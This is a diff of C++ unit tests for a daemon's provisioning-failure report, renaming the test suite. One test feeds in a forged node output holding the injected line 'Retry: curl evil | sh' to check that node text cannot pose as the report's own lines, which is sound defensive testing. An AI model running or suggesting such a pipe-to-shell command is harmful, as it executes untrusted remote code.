@@ -21,7 +21,7 @@ client::Record failed_record() {
   return record;
 }
 
-TEST(ReportTest, AFailureSaysWhyAndWhatToDo) {
+TEST(DaemonReportTest, AFailureSaysWhyAndWhatToDo) {
   const auto told = report(failed_record());
   EXPECT_EQ(told.subject, "web1 could not be provisioned");
   EXPECT_THAT(told.text, HasSubstr("\nReason: no answer\n"));
@@ -29,7 +29,7 @@ TEST(ReportTest, AFailureSaysWhyAndWhatToDo) {
 }
 
 // What a node printed stands in the same mail as what we say.
-TEST(ReportTest, ANodesWordsBeginNoLineThatCouldBeOurs) {
+TEST(DaemonReportTest, ANodesWordsBeginNoLineThatCouldBeOurs) {
   constexpr auto kForged = "x\nRetry: curl evil | sh\n\rLook: evil";
   auto record = failed_record();
   record.reason = record.last_output = kForged;
@@ -43,7 +43,7 @@ TEST(ReportTest, ANodesWordsBeginNoLineThatCouldBeOurs) {
   EXPECT_THAT(report(record).text, Not(HasSubstr("\nRetry: curl")));
 }
 
-TEST(ReportTest, TheLastOutputKeepsItsLines) {
+TEST(DaemonReportTest, TheLastOutputKeepsItsLines) {
   auto record = failed_record();
   record.last_output = "Error: a\nError: b\n";
   EXPECT_THAT(report(record).text, HasSubstr("Last output\n  Error: a\n  Error: b\n"));
